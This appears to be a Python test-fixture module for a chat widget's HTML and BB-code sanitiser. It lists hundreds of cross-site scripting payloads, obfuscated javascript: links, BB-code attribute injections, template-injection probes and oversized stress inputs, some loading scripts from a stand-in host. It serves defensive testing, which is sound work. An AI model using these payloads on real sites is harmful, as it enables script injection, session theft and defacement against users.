r"""Hostile inputs: what people type to make another's browser run their script.

Every payload calls `xss()`, which the tests count; what a payload would fetch lies below
evil.invalid. Nothing here is to be run, fetched or changed by the product: TYPED and LINKS show as
they were typed, CODES render as far as they make sense.
"""

DASHES = "-" * 54  # around a quote

TYPED = [  # markup, entities, templates: no BB code in it
    *r'''
<script>xss()</script>
<SCRIPT>xss()</SCRIPT >
<ScRiPt type=module>xss()</sCrIpT>
<script src=//evil.invalid/x.js></script>
<script src=data:,xss()></script>
<script>xss()
<script>xss()//
<script/x>xss()</script>
<scr<script>ipt>xss()</scr</script>ipt>
<<script>script>xss()<</script>/script>
</script><script>xss()</script>
<script>import('//evil.invalid/x.js')</script>
<script>location='//evil.invalid'</script>
<script>open('//evil.invalid')</script>
<script>fetch('//evil.invalid')</script>
<script>alert(1)</script>
<img src=x onerror=xss()>
<img src="x" onerror="xss()">
<img src='x' onerror='xss()'>
<img/src=x/onerror=xss()>
<img src=x:x onerror=xss()//
<img src=`x`onerror=xss()>
<img """><script>xss()</script>">
<IMG SRC=x OnErRoR=xss()>
<image src=x onerror=xss()>
<img srcset=x onerror=xss()>
<img src=x onerror=&#120;&#115;&#115;()>
<img src=x onerror="xss&lpar;&rpar;">
<img src onerror=xss() alt="
<img src=//evil.invalid/a.png?
<picture><source srcset=x><img onerror=xss() src=x></picture>
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><script xlink:href=data:,xss() /></svg>
<svg><script>xss&#40;&#41;</script></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s></svg>
<svg><set attributeName=onload to=xss()></svg>
<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>
<svg><foreignObject><iframe onload=xss()></foreignObject></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=xss()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">
<math><annotation-xml encoding="text/html"><script>xss()</script></annotation-xml></math>
<math href=javascript:xss()>x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>
<body onload=xss()>
<body onpageshow=xss()>
<html onmouseover=xss()>
<frameset onload=xss()>
<iframe src=javascript:xss()></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe onload=xss()>
<iframe src=//evil.invalid></iframe>
<object data=javascript:xss()></object>
<object data="data:text/html,<script>xss()</script>"></object>
<embed src=javascript:xss()>
<applet code=x onerror=xss()>
<portal src=//evil.invalid></portal>
<fencedframe src=//evil.invalid></fencedframe>
<video src=x onerror=xss()></video>
<video><source onerror=xss() src=x></video>
<audio src=x onerror=xss()></audio>
<video poster=javascript:xss()>
<track default onload=xss()>
<details open ontoggle=xss()>x</details>
<input autofocus onfocus=xss()>
<textarea autofocus onfocus=xss()>
<select autofocus onfocus=xss()>
<button formaction=javascript:xss()>x</button>
<form action=javascript:xss()><input type=submit></form>
<form action=//evil.invalid><input name=message>
<isindex action=javascript:xss() type=image>
<marquee onstart=xss()>x</marquee>
<dialog open onclose=xss()>
<div popover onbeforetoggle=xss() id=p></div><button popovertarget=p>
<b onmouseover=xss()>x</b>
<b onclick="xss()" style=position:fixed;inset:0>x</b>
<p style=animation-name:arrives onanimationstart=xss()>x</p>
<p style="background:url(javascript:xss())">x</p>
<p style="width:expression(xss())">x</p>
<x contenteditable onblur=xss()>x</x>
<x tabindex=1 onfocus=xss() id=message></x>
<style>@import'//evil.invalid/x.css';</style>
<style>*{background:url(//evil.invalid/x)}</style>
<style><img src="</style><img src=x onerror=xss()//">
<link rel=stylesheet href=//evil.invalid/x.css>
<link rel=prefetch href=//evil.invalid/x>
<link rel=import href="data:text/html,<script>xss()</script>">
<base href=//evil.invalid/>
<base target="<script>xss()</script>">
<meta http-equiv=refresh content="0;url=//evil.invalid">
<meta http-equiv=refresh content="0;url=javascript:xss()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<a href=javascript:xss()>x</a>
<a href="java&#115;cript:xss()">x</a>
<a href="jav&Tab;ascript:xss()">x</a>
<a href=" javascript:xss()">x</a>
<a ping=//evil.invalid href=x>x</a>
<template><script>xss()</script></template>
</template><script>xss()</script>
</textarea><script>xss()</script>
</title><script>xss()</script>
</style><script>xss()</script>
</noscript><script>xss()</script>
</live-chat><script>xss()</script>
</div></div></article></div></main><h1>broken out</h1>
<!--
--><script>xss()</script>
--!><img src=x onerror=xss()>
<!--><script>xss()</script>-->
<!-- --!><img src=x onerror=xss()>
<![CDATA[<script>xss()</script>]]>
<?xml version="1.0"?><script>xss()</script>
<?php echo 'xss()' ?>
<!doctype html><script>xss()</script>
<!ENTITY x "y">&x;
<plaintext>
<xmp><script>xss()</script>
<listing><img src=x onerror=xss()>
<noembed><img title="</noembed><img src=x onerror=xss()>">
<noscript><p title="</noscript><img src=x onerror=xss()>">
<table><td background=javascript:xss()>
<table><caption><script>xss()</script>
<select><option><script>xss()</script>
<slot name=x><article class="message operator"><p class=from>Support</p></article>
<live-chat data-ready></live-chat>
<img id=config name=texts><form id=config><input name=textContent>
<a id=customElements><a id=customElements name=define href=cid:xss()>
<script type=application/json id=config>{"ajax":"//evil.invalid"}</script>
"><script>xss()</script>
'><script>xss()</script>
" onmouseover=xss() x="
' onfocus=xss() autofocus x='
"autofocus onfocus="xss()
`onmouseover=xss()
"'`--></style></title></textarea></script><svg/onload=xss()>
\"><script>xss()</script>
\";xss();//
';xss();//
"-xss()-"
'-xss()-'
</script><!--<script>
&lt;script&gt;xss()&lt;/script&gt;
&#60;script&#62;xss()&#60;/script&#62;
&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;
&#0000060script&#0000062xss()
&amp;lt;script&amp;gt;xss()
&quot;&gt;&lt;script&gt;xss()
%3Cscript%3Exss()%3C/script%3E
%253Cscript%253Exss()
%22%3E%3Cimg%20src%3Dx%20onerror%3Dxss()%3E
\u003cscript\u003exss()\u003c/script\u003e
\x3cscript\x3exss()\x3c/script\x3e
+ADw-script+AD4-xss()+ADw-/script+AD4-
{{7*7}}{{constructor.constructor('xss()')()}}
{{ config }} {% print(7*7) %} {# x #}
{{ ''.__class__.__mro__[1].__subclasses__() }}
${xss()} #{xss()} <%= xss() %>
{name} {0} {name.__class__.__init__.__globals__} {}
%s %(name)s %n %x
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xss()//'>
data: <script>xss()</script>
event: message data: <script>xss()</script>
'''.strip("\n").split("\n"),
    "<img src=x onerror=xss() ",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:xss() />"
    "<a id=a><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='xss()'/></svg>#x\"/></svg>",
    "<script>\nxss()\n</script>",
    "<script\t>xss()</script>",
    "<script\x0c>xss()</script>",
    "<img\nsrc=x\nonerror\n=\nxss()\n>",
    "<img src=x\u00a0onerror=xss()>",
    "<a href='java\nscript:xss()'>x</a>",
    "<\u200bscript>xss()</script>",
    "\ufeff<script>xss()</script>",
    "<\ufe64script>xss()\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u02bascript\u2039script\u203axss()",
    "\u202e>tpircs/<)(ssx>tpircs<",
    "\u2066<script>\u2069xss()\u2028</script>\u2029",
    "<scr\u0131pt>xss()</scr\u0131pt>",
    "<\u017fcript>xss()</\u017fcript>",
    "<svg onload\u2003=\u2003xss()>",
    "<script>xss()</script>" * 40,
    "<b>" * 400 + "<img src=x onerror=xss()>",
    "a\u0300\u0301\u0302\u0303" * 60 + "<script>xss()</script>",
    "x" * 3000 + '"><img src=x onerror=xss()>',
    "\r\n\r\n<script>xss()</script>",
    "id: 1\n\nevent: message\ndata: <script>xss()</script>\n\n",
    ">" + "<" * 300,
]

LINKS = [  # addresses no browser may follow from a bubble, or not as they would like
    *r"""
javascript:xss()
JaVaScRiPt:xss()
javascript://https://a.example/%0Axss()
javascript:xss()//https://a.example
javascript:/*https://a.example*/xss()
javascript:`https://a.example`;xss()
javascript&colon;xss()
javascript&#58;xss()
javascript&#x3a;xss()
javascript%3axss()
&#106;avascript:xss()
&#x6A&#x61;vascript:xss()
java&Tab;script:xss()
java&NewLine;script:xss()
java\script:xss()
\javascript:xss()
'javascript:xss()
"javascript:xss()
<javascript:xss()>
javascript:javascript:xss()
feed:javascript:xss()
view-source:javascript:xss()
jar:javascript:xss()!/
livescript:xss()
mocha:xss()
vbscript:xss()
VbScRiPt:msgbox(1)
data:text/html,<script>xss()</script>
data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==
DATA:text/html,<script>opener.xss()</script>
data:image/svg+xml,<svg/onload=xss()>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+
data:,javascript:xss()
data:application/xhtml+xml,<script>xss()</script>
blob:https://a.example/00000000
filesystem:https://a.example/temporary/x.html
file:///etc/passwd
about:blank
about:srcdoc
chrome://settings
intent://evil.invalid/#Intent;scheme=https;end
ms-word:ofe|u|//evil.invalid
ws:evil.invalid
ftp:evil.invalid
//evil.invalid/x
\\evil.invalid\x
/\evil.invalid
/ajax?type=chat_history
?javascript:xss()
#javascript:xss()
x
https:evil.invalid
https:/evil.invalid
https:///evil.invalid
https:\\evil.invalid
https://
https://?javascript:xss()
https://[javascript:xss()
https://user@evil.invalid
https://a.example@evil.invalid/
https://a.example\@evil.invalid
https://javascript:xss()@evil.invalid
https://a.example" onmouseover="xss()
https://a.example' onmouseover='xss()
https://a.example onmouseover=xss()
https://a.example/"onerror="xss()
https://a.example/'onerror='xss()
https://a.example/"><script>xss()</script>
https://a.example/><img src=x onerror=xss()>
https://a.example/`onerror=xss()
https://a.example/?"autofocus onfocus=xss() tabindex="1
https://a.example/#"style="animation:arrives"onanimationstart="xss()
https://a.example/x.svg?<svg/onload=xss()>
https://a.example/&quot;onerror=&quot;xss()
https://a.example/&#34;&gt;&lt;script&gt;xss()
https://a.example/%22onerror=%22xss()
https://a.example/x.svg
https://a.example/broken.png
https://a.example/javascript:xss()
https://a.example/?u=javascript:xss()
https://xn--80ak6aa92e.com/
mailto:a@b.example?subject="><script>xss()</script>
mailto:javascript:xss()
mailto:"onclick=xss()"@b.example
tel:+7"onclick="xss()
tel:javascript:xss()
sms:+7999
""".strip("\n").split("\n"),
    " javascript:xss()",
    "\tjavascript:xss()",
    "java\tscript:xss()",
    "j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:xss()",
    "javascript\t:xss()",
    "java\x0bscript:xss()",
    "\x01javascript:xss()",
    "\x1fjavascript:xss()",
    "java\x7fscript:xss()",
    "javascript:\u2028xss()",
    "\u00a0javascript:xss()",
    "\u2028javascript:xss()",
    "\ufeffjavascript:xss()",
    "java\u00adscript:xss()",
    "java\u200bscript:xss()",
    "java\u200dscript:xss()",
    "java\u202escript:xss()",
    "jav\u0430script:xss()",
    "java\u017fcript:xss()",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:xss()",
    "javascript\uff1axss()",
    "http\u017f://evil.invalid",
    "https:\u2044\u2044evil.invalid",
    "https://a.example\u2044@evil.invalid",
    'https://a.example\t"onerror="xss()',
    "https://a.example/\u202egnp.exe",
]

CODES = [  # BB codes that overlap, stay open, nest or hide markup
    *r"""
[b]<script>xss()</script>[/b]
[b]<b[/b] onclick=xss()>
<[b]script[/b]>xss()</[b]script[/b]>
<[i]img src=x onerror=xss()[/i]>
[b][i][u][s]<svg onload=xss()>[/b][/i][/u][/s]
[/b][/i]</div></article><script>xss()</script>
[b
[b][b][b][/b
[[b]]<script>xss()[[/b]]
[B]<IMG SRC=x ONERROR=xss()>[/B]
[b onclick=xss()]x[/b]
[b="x" onclick="xss()"]x[/b]
[b style=position:fixed]x[/b]
[script]xss()[/script]
[html]<script>xss()</script>[/html]
[iframe]https://evil.invalid[/iframe]
[video]https://evil.invalid[/video]
[style]*{}[/style]
[on error=xss()]
[url]javascript:xss()[/url]
[url=javascript:xss()]x[/url]
[url="javascript:xss()"]x[/url]
[url='javascript:xss()']x[/url]
[url=[b]javascript:xss()[/b]]x[/url]
[url=https://a.example/[b]" onmouseover=xss()]x[/url]
[url=https://a.example onmouseover=xss()]x[/url]
[url=https://a.example" onmouseover="xss()]x[/url]
[url=https://a.example][url=javascript:xss()]x[/url][/url]
[url=https://a.example][img]javascript:xss()[/img][/url]
[url=https://a.example]<script>xss()</script>[/url]
[url=https://a.example][img]https://a.example/"onerror="xss()[/img][/url]
[url=https://a.example]</a><a href=javascript:xss()>x[/url]
[url]https://a.example[url=javascript:xss()]x[/url]
[url]https://a.example" onmouseover=xss() [/url]
[url]https://a.example/<script>xss()</script>[/url]
[url=https://a.example]x
[url=
[url=https://a.example
[img]x" onerror="xss()[/img]
[img]https://a.example/x.png" onerror="xss()[/img]
[img]https://a.example/x.png' onerror='xss()[/img]
[img]https://a.example/x.png onerror=xss()[/img]
[img]https://a.example/broken.png?onerror=xss()[/img]
[img]https://a.example/x.svg#<script>xss()</script>[/img]
[img=1x1 onerror=xss()]https://a.example/broken.png[/img]
[img size=1 onerror=xss()]https://a.example/broken.png[/img]
[img width="1" onerror="xss()"]https://a.example/broken.png[/img]
[img]data:image/svg+xml,<svg/onload=xss()>[/img]
[img]javascript:xss()[/img]
[img][url]javascript:xss()[/url][/img]
[img]https://a.example/x.png[img]" onerror="xss()[/img][/img]
[icon=javascript:xss() size=20 title=x]
[icon=https://a.example/x.png title="><script>xss()</script>]
[icon=https://a.example/broken.png size=20" onerror="xss() title=x]
[icon=https://a.example/broken.png title=x" onerror="xss()]
[icon=https://a.example/x.png size=9999999999 width=100% height=100% style=position:fixed]
[color=red" onmouseover="xss()]x[/color]
[color=red;background:url(javascript:xss())]x[/color]
[color=expression(xss())]x[/color]
[size=1;position:fixed;inset:0]x[/size]
[size=99999999999999999999]x[/size]
[user=1" onclick="xss()]x[/user]
[user="><script>xss()</script>]x[/user]
[chat=<svg/onload=xss()>][/chat]
[send=javascript:xss()]x[/send]
[put="><img src=x onerror=xss()>]x[/put]
[call=javascript:xss()]x[/call]
[call]+7" onclick="xss()[/call]
[disk=1" onclick="xss()]
[disk file id="><script>xss()</script>]
[timestamp=1 format="><script>xss()</script>]
[timestamp=99999999999]
[context=chat1/1"><script>xss()</script>]x[/context]
[code]</code></pre><script>xss()</script>[/code]
[code][/code]<script>xss()</script>[code]
[code]<img src=x onerror=xss()>
[quote]</blockquote></div></article><script>xss()</script>[/quote]
[quote="><script>xss()</script>]x[/quote]
[quote][quote][quote]<script>xss()</script>
[like]<script>xss()</script>[dislike]
[attach=1]<script>xss()</script>[/attach]
[table]<script>xss()</script>[tr onclick=xss()]<img src=x onerror=xss()>[td]x[/td][/tr][/table]
[table][tr][td style=x]<svg/onload=xss()></td></table></article><script>xss()[/td][/tr][/table]
[list=1" onclick="xss()][*]<img src=x onerror=xss()>[*=xss()]</ul></article><script>xss()[/list]
[spoiler="><script>xss()</script>]<details open ontoggle=xss()>[/spoiler]
[video]https://evil.invalid/x.mp4" onerror="xss()[/video] [audio]javascript:xss()[/audio]
[center onclick=xss()]</div></article>[/center][p][h1]<script>xss()</script>[/h1][/p]
[email]a@b.example" onclick="xss()[/email] [email=javascript:xss()]x[/email]
[url=www.evil.invalid" onmouseover="xss()]x[/url] [url=evil.invalid/<script>xss()</script>]x[/url]
www.a.example/"onmouseover="xss() www.a.example/'onmouseover='xss()' www.a.example<script>xss()
a@b.example"onclick="xss() a"onclick="xss()@b.example mailto:a@b.example?x="><script>xss()
[sup][/table][sub]</sup><script>xss()</script>[/sub][hr onload=xss()][br onload=xss() /]
[rating=5" onclick="xss()"]
[ch=javascript:xss()]x[/ch]
<img data-code="<script>xss()</script>" src=x onerror=xss()>
<img data-code="&lt;script&gt;xss()&lt;/script&gt;" onerror=xss()>
<img src="x" data-code=":)" onerror="xss()" style="position:fixed">
<img data-code=":)" src="//evil.invalid/x.png" onload=xss()>
<img data-code="x" data-code="y" onerror='xss()'>
[b]Olga Petrova:[/b] [br]<script>xss()</script>
[b]<script>xss()</script>:[/b] [br]x
[b]"><img src=x onerror=xss()>:[/b] [br]x
[b]&lt;img src=x onerror=xss()&gt;:[/b] [br]x
""".strip("\n").split("\n"),
    f"{DASHES}\n<script>xss()</script> [<b>]\nx\n{DASHES}",
    f"{DASHES}\nA [10:11] #chat5/<svg/onload=xss()>\nx",
    ">><script>xss()</script>\n>></blockquote></article><img src=x onerror=xss()>\nx",
    "[url=java\nscript:xss()]x[/url]",
    "[url=\tjavascript:xss()]x[/url]",
    "[img]\njavascript:xss()\n[/img]",
    "[b\n]x[/b]",
    "[b]" * 60 + "<script>xss()</script>",
    "[b][i]" * 40 + "x" + "[/b][/i]" * 40,
    "[quote]" * 60 + "</blockquote>" + "[/quote]" * 60,
    "[url=https://a.example]" * 30 + "<a href=javascript:xss()>x" + "[/url]" * 30,
]

INPUTS = [*TYPED, *LINKS, *CODES]

PLACE = "{here}"
PLACES = """
[url={here}]link[/url]
[url]{here}[/url]
[url=https://a.example/{here}]link[/url]
[url=https://a.example]{here}[/url]
[img]{here}[/img]
[img]https://a.example/{here}[/img]
[icon={here} size=20 title={here}]
[icon=https://a.example/i.png size=20 title={here}]
[user={here}]{here}[/user] [chat={here}][/chat] [context={here}]x[/context]
[send={here}]x[/send] [put={here}][/put] [call={here}]x[/call] [call]{here}[/call]
[size={here}]x[/size] [color={here}]x[/color]
[disk={here}] [timestamp={here}] https://{here} mailto:{here}
[b]{here}[/b] [b][i]{here}[/b][/i] [s]{here}
[code]{here}[/code]
[quote={here}]{here}[/quote]
>>{here}
<img data-code="{here}" src="{here}">
""".strip("\n")

LENGTH = 5_000  # more takes browsers long: their layout is quadratic in line breaks and marks
LONG = {
    name: (piece * (LENGTH // len(piece) + 1))[:LENGTH]
    for name, piece in {
        "opening brackets": "[",
        "closing brackets": "]",
        "pairs of brackets": "[]",
        "open codes": "[b]",
        "closing codes": "[/b]",
        "codes that overlap": "[b][i][/b][/i]",
        "nested quotes": "[quote]",
        "open links": "[url=https://a.example]",
        "unfinished links": "[url=",
        "links of links": "[url]https://a.example[url]",
        "unfinished pictures": "[img]https://a.example/",
        "unfinished code": "[code]",
        "colours": "[color=red][size=9]",
        "tags": "<b>",
        "angle brackets": "<",
        "scripts": "<script>xss()</script>",
        "unfinished pictures of HTML": "<img src=x onerror=xss() ",
        "unfinished comments": "<!--",
        "ampersands": "&",
        "entities": "&lt;",
        "quotation marks": "\"'`",
        "no-break spaces": "\u00a0",
        "line quotes": ">>\n",
        "dashes": f"{DASHES}\n",
        "addresses": "https://a.example/)))) ",
        "one address": "https://a.example/[a]",
        "line breaks": "\n",
        "combining marks": "\u0300",
        "directions": "\u202e\u2066",
    }.items()
} | {
    "a name without an end": "[b]" + "x:" * (LENGTH // 2),
    "codes opened and closed": "[b]" * 700 + "x" + "[/b]" * 700,
    "quotes opened and closed": "[quote]" * 330 + "x" + "[/quote]" * 330,
}
